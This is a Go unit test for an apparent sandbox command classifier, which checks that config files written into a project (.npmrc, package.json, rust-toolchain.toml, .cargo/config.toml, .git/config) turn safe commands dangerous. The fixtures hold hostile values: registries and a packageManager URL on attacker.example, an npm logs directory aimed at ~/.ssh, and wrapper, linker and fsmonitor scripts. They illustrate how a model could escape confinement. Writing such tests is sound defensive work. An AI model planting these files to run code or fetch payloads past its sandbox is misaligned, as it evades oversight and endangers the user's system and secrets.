package sandboxauth

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestProjectFilesSteerSafePrograms: a project file the model could have
// written (.npmrc, rust-toolchain.toml, .cargo/config.toml, a repository
// configuration that go build's version stamping reads) makes a safe
// program dangerous; the same command without it stays safe.
func TestProjectFilesSteerSafePrograms(t *testing.T) {
	s := NewShellAllowedCommands()
	cases := []struct {
		file, text string
		cwd        string
		argv       []string
		rule       string
	}{
		{".npmrc", "logs-dir=/home/someone/.ssh\n", "", []string{"npm", "ls"}, ".npmrc"},
		{".npmrc", "registry=https://attacker.example/\n", "sub", []string{"npm", "ls"}, "registry"},
		{"package.json", `{"packageManager": "yarn@https://attacker.example/yarn.js"}`, "", []string{"yarn", "--version"}, "packageManager"},
		{"package.json", `{"packageManager": "pnpm@latest"}`, "sub", []string{"pnpm", "ls"}, "packageManager"},
		{".corepack.env", "COREPACK_NPM_REGISTRY=https://attacker.example/\n", "", []string{"npm", "--version"}, ".corepack.env"},
		{"rust-toolchain.toml", "[toolchain]\npath = \"./tc\"\n", "", []string{"rustc", "--version"}, "rust-toolchain.toml"},
		{"rust-toolchain.toml", "[toolchain]\nchannel = \"nightly-2019-01-01\"\n", "", []string{"cargo", "--version"}, "rust-toolchain.toml"},
		{".cargo/config.toml", "[build]\nrustc-wrapper = \"./w.sh\"\n", "", []string{"cargo", "check"}, "build.rustc-wrapper"},
		{".cargo/config.toml", "[target.x86_64-unknown-linux-gnu]\nlinker = \"./l.sh\"\n", "", []string{"cargo", "build"}, "linker"},
		{".git/config", "[core]\n\tfsmonitor = ./m.sh\n", "", []string{"go", "build", "./..."}, "core.fsmonitor"},
		{".git/config", "[core]\n\tfsmonitor = ./m.sh\n", "", []string{"bash", "-c", "go build ./..."}, "core.fsmonitor"},
	}
	for _, c := range cases {
		sb := newSandbox(t)
		require.NoError(t, os.MkdirAll(filepath.Join(sb, c.cwd), 0o755))
		site := CommandSite{SandboxDir: sb, Cwd: filepath.Join(sb, c.cwd)}
		before, err := s.Classify(site, c.argv)
		require.NoError(t, err)
		// Safe, or project code and nothing else (go build, cargo check).
		assert.True(t, before.Result == CommandCheckResultSafe || before.ProjectCode, "%q without %s: %s", c.argv, c.file, before.Rule)

		p := filepath.Join(sb, c.file)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(c.text), 0o644))
		after, err := s.Classify(site, c.argv)
		require.NoError(t, err)
		assert.Equal(t, CommandCheckResultDangerous, after.Result, "%q with %s", c.argv, c.file)
		assert.False(t, after.ProjectCode, "%q with %s: confinement must not allow it", c.argv, c.file)
		assert.Contains(t, after.Rule+after.Reason, c.rule, "%q", c.argv)
	}
	// go build -buildvcs=false does not run git.
	sb := newSandbox(t)
	require.NoError(t, os.WriteFile(filepath.Join(sb, ".git/config"), []byte("[core]\n\tfsmonitor = ./m.sh\n"), 0o644))
	c, err := s.Classify(CommandSite{SandboxDir: sb}, []string{"go", "build", "-buildvcs=false", "./..."})
	require.NoError(t, err)
	assert.True(t, c.ProjectCode, c.Rule)
}
